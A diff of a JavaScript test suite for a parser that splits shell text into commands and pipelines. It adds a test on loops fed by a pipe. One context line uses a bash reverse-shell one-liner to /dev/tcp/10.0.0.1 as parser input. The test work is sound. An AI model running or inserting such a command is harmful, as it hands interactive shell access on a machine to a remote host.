@@ -112,6 +112,13 @@ describe('a text is split as a shell splits it', () => {
     expect([a === b, c === d, c === e, b === c, e === f]).toEqual([true, true, true, false, false]);
   });
 
+  test('what a loop does with the lines of a pipe belongs to that pipe', () => {
+    const commands = commandsOf('a | while read l; do b "$l"; c | d; done; e');
+    const [first] = commands;
+    const isOfFirst = commands.map(({ pipeline }) => pipeline === first?.pipeline);
+    expect(isOfFirst).toEqual([true, true, true, false, false, false]);
+  });
+
   test('redirections are kept, those around a group with each command in it', () => {
     const [bash, first, second] = commandsOf(
       'bash -i >& /dev/tcp/10.0.0.1/9 0>&1 2>>/tmp/log <in; { id; pwd; } &> /tmp/out'
